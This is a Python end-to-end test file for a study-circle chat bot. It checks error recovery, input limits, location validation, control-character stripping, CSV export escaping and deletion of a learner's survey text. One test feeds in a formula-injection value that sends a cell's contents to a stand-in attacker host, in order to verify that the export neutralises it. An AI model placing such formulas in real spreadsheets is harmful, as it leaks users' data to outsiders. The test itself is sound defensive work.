"""Odd input and failures: a clear answer, nothing changed that shouldn't, nothing typed lost."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

from sqlalchemy import func, select

from adapters.console.driver import ConsoleDriver
from bot.clock import FixedClock
from storage.db import Database
from storage.tables import kept_inputs, survey_responses
from tests.e2e.flows import BERLIN_CIRCLE, create_circle, sign_up


async def test_a_failure_gives_back_what_was_typed_and_keeps_it(chat: ConsoleDriver, db: Database) -> None:
    async def broken(*_: object) -> None:
        raise RuntimeError("the disk is on fire")

    chat.app.commands["help"] = broken  # a stand-in for any unexpected failure inside a handler
    answer = await chat.say("/help please, and my long story: " + "ü" * 1500)
    assert "Sorry, something went wrong on my side. I kept what you wrote" in answer
    assert "my long story: " + "ü" * 1500 in answer
    async with db.transaction() as conn:
        kept = (await conn.execute(select(kept_inputs.c.text, kept_inputs.c.error))).all()
    assert kept == [("/help please, and my long story: " + "ü" * 1500, "RuntimeError")]


async def test_numbers_too_big_for_any_range_are_refused_kindly(chat: ConsoleDriver) -> None:
    answers = list(BERLIN_CIRCLE)
    await chat.say("/new", as_="fiona")
    for answer in answers[:13]:
        await chat.say(answer)
    assert "That is 5000 characters long; the limit here is 20." in await chat.say("9" * 5000)
    assert "Please send a whole number from 1 to 52." in await chat.say("9" * 19)
    assert "Please send a whole number from 1 to 52." in await chat.say("6" + "0" * 18)
    assert "How many weekly meetings" in chat.shown["fiona"][-1].text


async def test_a_location_off_the_map_is_refused(chat: ConsoleDriver) -> None:
    await create_circle(chat)
    await chat.say("/browse", as_="alice")
    for where in ("/location inf -inf", "/location nan nan", "/location 999 999"):
        assert "That location does not look right." in await chat.say(where)
    assert "Python for Everybody" in await chat.say("/location 52.52 13.40")


async def test_control_characters_are_dropped_not_stored(chat: ConsoleDriver, db: Database) -> None:
    answers = list(BERLIN_CIRCLE)
    answers[0] = "Python\x00 for\x07 Everybody"
    await create_circle(chat, answers)
    assert "Python for Everybody" in await chat.say("/browse Berlin", as_="alice")


async def test_a_long_link_just_under_the_limit_is_refused_before_publishing(chat: ConsoleDriver) -> None:
    await chat.say("/new", as_="fiona")
    await chat.say("Python")
    assert "the limit here is 500" in await chat.say("example.org/" + "a" * 485)
    assert "What should the circle be called?" in await chat.say("example.org/course")


async def test_the_signup_export_never_carries_a_formula(chat: ConsoleDriver) -> None:
    code = await create_circle(chat)
    await sign_up(chat, code, "alice", '=HYPERLINK("http://evil.example/?"&B2,"click")', "+1 help", "@me")
    await chat.say("/mycircles", as_="fiona")
    await chat.press("Python for Everybody")
    await chat.press("Export signups (CSV)")
    export = chat.shown["fiona"][-1].reply.attachment
    assert export is not None
    row = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))[1]
    assert row[2:] == ['\'=HYPERLINK("http://evil.example/?"&B2,"click")', "'+1 help", "'@me"]


async def test_forget_removes_words_a_learner_wrote_in_surveys(
    chat: ConsoleDriver, db: Database, clock: FixedClock
) -> None:
    code = await create_circle(chat)
    await sign_up(chat, code, "alice", "Learn", "Help", "Build")
    clock.set(clock.now() + timedelta(days=10))
    await chat.press_token("survey:l:1", as_="alice")
    for answer in ("4", "4", "5"):
        await chat.say(answer)
    await chat.say("My private thoughts about Fiona")
    await chat.say("/forget")
    await chat.press("Yes, forget me")
    async with db.transaction() as conn:
        answers = (await conn.execute(select(survey_responses.c.answers))).scalar_one()
        kept = (await conn.execute(select(func.count()).select_from(kept_inputs))).scalar_one()
    assert answers == {"goal_met": 4, "confidence": 4, "recommend": 5}
    assert kept == 0
    report = await chat.say("/report", as_="fiona")
    assert "private thoughts" not in report
    assert "would recommend 5.0/5" in report
